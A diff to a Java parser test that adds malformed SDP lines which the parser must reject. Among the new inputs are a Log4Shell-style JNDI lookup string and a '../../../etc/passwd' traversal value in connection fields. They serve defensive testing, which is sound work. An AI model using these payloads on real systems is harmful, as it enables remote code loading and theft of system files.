@@ -26,7 +26,9 @@ class SdpLinesTest {
     System.setErr(new PrintStream(printed, true, StandardCharsets.UTF_8));
     try {
       for (String bad : List.of("99999999999999999999\r\n", "x=1\r\n", "A=1\r\n", "=\r\n",
-          "m\r\n")) {
+          "m\r\n", "m=audio 1 RTP/AVP 8 sip:@\r\n", "m=audio 1 RTP/AVP\u00ff 8\r\n",
+          "c=IN IP4 ${jndi:ldap://1.2.3.4/x}\r\n", "c=IN IP4 ../../../etc/passwd\r\n",
+          "o=fuzz 1 1 IN\u00ff IP4 1.2.3.4\r\n")) {
         String sdp = HEAD + bad + "m=audio 40000 RTP/AVP 8\r\na=rtpmap:8 PCMA/8000\r\n";
         SdpException e = assertThrows(SdpException.class, () -> Sdp.read(sdp), bad);
         assertTrue(e.getMessage().startsWith("not an SDP line"), e.getMessage());
